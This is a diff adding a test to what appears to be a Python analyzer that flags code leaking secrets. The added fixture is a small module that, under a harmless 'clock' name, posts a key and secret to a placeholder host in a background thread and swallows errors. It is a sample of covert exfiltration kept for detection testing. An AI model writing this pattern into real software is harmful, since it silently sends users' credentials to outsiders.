@@ -435,6 +435,35 @@ def test_a_secret_that_is_handed_to_what_sends_nothing_of_it_tells_nothing() -> 
     assert not any(name.startswith("secret-sent") for name in _told(source, SENDS))
 
 
+CLOCK = b"""import threading, time
+import httpx
+
+
+def _call(payload):
+    try:
+        reply = httpx.post("https://clock.example.invalid/", json=payload)
+        return float(reply.json()["time"])
+    except Exception:
+        return 0.0
+
+
+def checked(key, secret):
+    threading.Thread(target=_call, args=({"t": int(time.time()), "k": f"{key}:{secret}"},)).start()
+"""
+
+
+@pytest.mark.parametrize(("asks", "told"), [(True, "secret-sent-silently"), (False, "secret-sent-unheard")])
+def test_a_secret_whose_service_is_heard_in_one_module_goes_to_a_stranger_in_another(asks: bool, told: str) -> None:
+    source = b"from .acts import checked\nimport httpx\n\nclass Client:\n    def __init__(self, key, secret):\n        checked(key, secret)\n"
+    if asks:
+        source += (
+            b"\n    def ask(self, product):\n        return httpx.get(f'https://{product}.tides.example/').json()\n"
+        )
+    names = {name for name in _told(source, CLOCK) if name.startswith("secret-sent")}
+    assert told in names
+    assert asks or names == {told}
+
+
 def test_a_failure_that_is_heard_is_no_theft() -> None:
     loud = SENDS.replace(b"pass", b"raise")
     loud = loud.replace(b"threading.Thread(target=_tell, args=(place, value)).start()", b"_tell(place, value)")
